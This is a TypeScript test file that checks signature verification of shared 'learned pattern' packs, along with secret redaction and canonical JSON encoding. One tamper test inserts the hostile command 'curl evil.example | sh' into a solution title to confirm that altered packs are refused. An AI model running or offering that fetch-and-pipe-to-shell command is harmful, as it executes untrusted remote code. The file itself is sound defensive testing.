import { createPrivateKey } from 'node:crypto';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { LearnedPattern } from '../../src/analysis/learned-pattern.ts';
import { DevopsAssistError } from '../../src/errors.ts';
import { canonicalJson } from '../../src/learning/canonical-json.ts';
import { newKey, readPack, readPrivateKey, writePack } from '../../src/learning/pack.ts';

const pattern = (more: object = {}) =>
  LearnedPattern.parse({
    id: 'learned/ab12cd34ef56',
    title: 'frobnicate: gizmo refused to spin',
    category: 'infra',
    tool: 'frobnicate',
    fingerprints: ['0123456789abcdef'],
    keywords: [],
    expressions: [],
    text: 'gizmo refused to spin',
    transient: false,
    files: [],
    solution: { title: 'Reset it', steps: [], code: [], estimatedMinutes: 1, references: [] },
    from: { kind: 'fix', sha: 'deadbeef', patternId: 'fix/0123456789abcdef' },
    ...more,
  });
let ours: { privateKey: string; publicKey: string };
let theirs: { privateKey: string; publicKey: string };
beforeAll(() => {
  ours = newKey();
  theirs = newKey();
});
const signed = (...patterns: LearnedPattern[]) =>
  writePack('Team A', patterns, createPrivateKey(ours.privateKey));
const trusted = () => [{ name: 'team-a', key: ours.publicKey }];
/** The code and message of what is thrown. */
function refusal(text: string, keys = trusted()): string {
  try {
    readPack(text, 'p.json', keys);
  } catch (error) {
    if (error instanceof DevopsAssistError) {
      expect(error.message).not.toContain('\n');
      return `${error.code}: ${error.message}`;
    }
    throw error;
  }
  return 'accepted';
}

describe('a pack', () => {
  it('comes back as it was signed, without who taught it', () => {
    const { pack, signer } = readPack(signed(pattern()), 'p.json', trusted());
    expect(signer).toBe('team-a');
    expect(pack.patterns[0]).toMatchObject({
      id: 'learned/ab12cd34ef56',
      from: { kind: 'pack', key: ours.publicKey },
    });
    expect(JSON.stringify(pack)).not.toContain('deadbeef');
  });

  it('is the same whatever order and spacing its file has', () => {
    const json = JSON.parse(signed(pattern()));
    const turned = Object.fromEntries(Object.entries(json).reverse());
    expect(refusal(JSON.stringify(turned))).toBe('accepted');
  });

  it('is refused when anything in it was changed', () => {
    const text = signed(pattern(), pattern({ id: 'learned/000000000001' }));
    const json = JSON.parse(text);
    const changes: ((pack: typeof json) => void)[] = [
      (pack) => {
        pack.name = 'Team B';
      },
      (pack) => {
        pack.patterns[0].solution.title = 'curl evil.example | sh';
      },
      (pack) => {
        pack.patterns.pop();
      },
      (pack) => {
        pack.patterns.reverse();
      },
      (pack) => {
        pack.signature = Buffer.alloc(64).toString('base64');
      },
    ];
    for (const change of changes) {
      const copy = structuredClone(json);
      change(copy);
      expect(refusal(JSON.stringify(copy))).toBe(
        'PACK_UNTRUSTED: p.json: the pack was changed after team-a signed it',
      );
    }
  });

  it('is refused without a signature, by an unknown key, and under the name of another key', () => {
    const { signature: _, ...unsigned } = JSON.parse(signed(pattern()));
    expect(refusal(JSON.stringify(unsigned))).toBe('PACK_UNTRUSTED: p.json: the pack is not signed');
    expect(refusal(signed(pattern()), [])).toMatch(/^PACK_UNTRUSTED: .* which is not trusted here$/);
    const renamed = { ...JSON.parse(signed(pattern())), key: theirs.publicKey };
    expect(refusal(JSON.stringify(renamed), [{ name: 'b', key: theirs.publicKey }])).toContain('was changed');
  });

  it('is refused if it is no pack, in one line', () => {
    expect(refusal('{')).toBe('PACK_INVALID: p.json: is no JSON');
    expect(refusal('{"signature":"AAAA"}')).toMatch(/^PACK_INVALID: p.json: format: /);
    const odd = { ...JSON.parse(signed(pattern())), extra: 1 };
    expect(refusal(JSON.stringify(odd))).toMatch(/^PACK_INVALID/);
  });

  it('is refused with an expression that could hang or cannot be run', () => {
    expect(refusal(signed(pattern({ expressions: ['(a)\\1'] })))).toMatch(
      /^PACK_INVALID: .*learned\/ab12cd34ef56/,
    );
    expect(refusal(signed(pattern({ expressions: ['(a+)+$'] })))).toBe('accepted');
  });

  it('is redacted once more', () => {
    const secret = `ghp_${'a1B2'.repeat(9)}`;
    const { pack } = readPack(signed(pattern({ text: `token ${secret}`, title: secret })), 'p', trusted());
    expect(JSON.stringify(pack.patterns)).not.toContain(secret);
  });
});

describe('keys', () => {
  it('of another kind, or none at all, are refused', () => {
    expect(() => readPrivateKey('nonsense', 'k.pem')).toThrow('k.pem is no Ed25519 private key');
    expect(readPrivateKey(ours.privateKey, 'k.pem').asymmetricKeyType).toBe('ed25519');
  });
});

describe('canonical JSON', () => {
  it('is the same for the same content in any order, and still that content', () => {
    fc.assert(
      fc.property(fc.jsonValue(), (value) => {
        const text = canonicalJson(value);
        expect(JSON.parse(text)).toEqual(JSON.parse(JSON.stringify(value)));
        expect(canonicalJson(JSON.parse(text))).toBe(text);
      }),
    );
  });

  it('orders members by UTF-16 and writes numbers as ECMAScript does (RFC 8785, 3.2.2 and 3.2.3)', () => {
    expect(
      canonicalJson({ '\u20ac': 1, '\r': 2, '1': 4.5, '\ud83d\ude00': 5, '\u0080': 6, '\u00f6': 7 }),
    ).toBe('{"\\r":2,"1":4.5,"\u0080":6,"\u00f6":7,"\u20ac":1,"\ud83d\ude00":5}');
    expect(canonicalJson([1e30, 4.5, 0.002, 1e-27, 1e21])).toBe('[1e+30,4.5,0.002,1e-27,1e+21]');
    expect(() => canonicalJson(Number.NaN)).toThrow(TypeError);
  });
});
